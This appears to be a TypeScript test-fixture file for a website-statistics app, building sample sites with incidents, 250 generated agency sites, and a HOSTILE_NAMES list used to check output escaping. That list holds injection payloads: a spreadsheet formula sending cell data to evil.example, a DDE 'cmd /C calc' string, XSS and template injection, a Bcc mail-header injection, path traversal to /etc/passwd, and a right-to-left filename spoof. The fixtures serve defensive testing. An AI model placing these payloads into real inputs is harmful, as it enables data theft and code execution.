import { createDraw } from '../data/random.ts';
import type { Incident, Site } from '../data/site.ts';

/** A website without its id, which depends on the seed. The domains are reserved (RFC 2606). */
export type SiteSketch = Omit<Site, 'id'>;

/** One website per kind of incident, to test that no client misreads them. */
export const EVENTFUL_SITES: readonly SiteSketch[] = [
  withIncidents('Launchpad Coffee', 'launchpad-coffee.example', {
    kind: 'launch',
    on: '2026-11-05',
    factor: 5,
    halfLife: 3,
  }),
  withIncidents('Flicker Tickets', 'flicker-tickets.example', { kind: 'outage', on: '2026-11-11', days: 2 }),
  withIncidents('Gap Analytics', 'gap-analytics.example', { kind: 'missingDay', on: '2026-11-12' }),
  withIncidents('Crowded Market', 'crowded-market.example', {
    kind: 'newCompetitor',
    on: '2026-11-02',
    competitor: { name: 'Newcomer Goods', domain: 'newcomer-goods.example', mentions: 40 },
  }),
  withIncidents('Rescored Review', 'rescored-review.example', { kind: 'newMethod', on: '2026-11-09' }),
];

function withIncidents(name: string, domain: string, incident: Incident): SiteSketch {
  return {
    name,
    domain,
    createdAt: '2024-03-04',
    trend: 'quiet',
    visitors: 1_400,
    citations: 8,
    mentions: 28,
    authority: 60,
    topics: ['coffee subscriptions', 'concert tickets', 'web statistics'],
    competitors: [
      { name: 'Steady Rival', domain: 'steady-rival.example', mentions: 24 },
      { name: 'Second Rival', domain: 'second-rival.example', mentions: 12 },
    ],
    incidents: [incident],
  };
}

/** Names that attack a reader that does not escape them, by target. */
export const HOSTILE_NAMES = {
  formula: '=1+1',
  formulaLink: '=IMPORTXML("http://evil.example/?"&A1,"//a")',
  formulaCommand: "+cmd|' /C calc'!A0",
  formulaMinus: '-2+3+cmd',
  formulaAt: '@SUM(1+1)',
  formulaAfterTab: '\t=1+1',
  formulaAfterReturn: '\r=1+1',
  htmlScript: '<script>alert(1)</script>',
  htmlAttribute: '"><img src=x onerror=alert(1)>',
  htmlEntity: '&lt;b&gt; &amp;amp; &#39;',
  yaml: ': - {',
  yamlLines: 'name: x\n- evil: {\n  !!js/function "x"',
  mailHeader: 'Weekly\r\nBcc: everyone@evil.example',
  mailAddress: '"Boss" <boss@evil.example>, other',
  rightToLeft: 'متجر الكتب — חנות',
  override: 'invoice\u202egpj.exe',
  combining: 'Cafe\u0301 Z\u0351\u036b\u0343algo\u0315\u031b',
  emoji: '👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽',
  zeroWidth: 'zero\u200bwidth\ufeff',
  halfPair: 'half \ud83d pair',
  nul: 'nul\u0000byte',
  template: '{{constructor.constructor("x")}} #{7*7} <%= 7*7 %> %s {0}',
  property: '__proto__',
  markdown: '[click](javascript:alert(1)) *bold* `code` |',
  path: '../../etc/passwd',
  terminal: '\u001b[31mred\u001b[0m',
  spaces: '   ',
  long: 'A very long name '.repeat(30).trim(),
} as const;

/** A team whose names, competitors and topics are hostile. */
export const HOSTILE_SITES: readonly SiteSketch[] = Object.entries(HOSTILE_NAMES).map(
  ([target, name], index, all) => {
    const competitor = all[(index + 1) % all.length]?.[1] ?? name;
    return {
      name,
      domain: `${target.replace(/[A-Z]/g, (capital) => `-${capital.toLowerCase()}`)}.example`,
      createdAt: '2025-01-06',
      trend: 'quiet',
      visitors: 200,
      citations: 2,
      mentions: 12,
      authority: 45,
      topics: [name, 'data safety'],
      competitors: [{ name: competitor, domain: `rival-${index + 1}.example`, mentions: 10 }],
    };
  },
);

const TRADES = ['Bakery', 'Bicycles', 'Dental Care', 'Flowers', 'Garage', 'Law Office', 'Opticians'] as const;
const TOWNS = ['Alder', 'Birch', 'Cedar', 'Dogwood', 'Elm', 'Fir', 'Ginkgo', 'Hazel'] as const;

/** A large team, for example an agency. */
export function createManySites(): readonly SiteSketch[] {
  return Array.from({ length: 250 }, (_, index) => {
    const next = createDraw('many', index);
    const place = String(index + 1).padStart(3, '0');
    const [trade, town] = [TRADES[index % TRADES.length], TOWNS[index % TOWNS.length]];
    const name = `${town} ${trade} ${place}`;
    return {
      name,
      domain: `${name.toLowerCase().replaceAll(' ', '-')}.example`,
      createdAt: '2025-01-06',
      trend: 'quiet',
      visitors: 80 + Math.floor(next() * 1_500),
      citations: 1 + Math.floor(next() * 5),
      mentions: 6 + Math.floor(next() * 30),
      authority: 35 + Math.floor(next() * 45),
      topics: [`${trade?.toLowerCase()} in ${town}`, `${trade?.toLowerCase()} prices`],
      competitors: [{ name: `${town} Rival`, domain: `${town?.toLowerCase()}-rival.example`, mentions: 20 }],
    };
  });
}
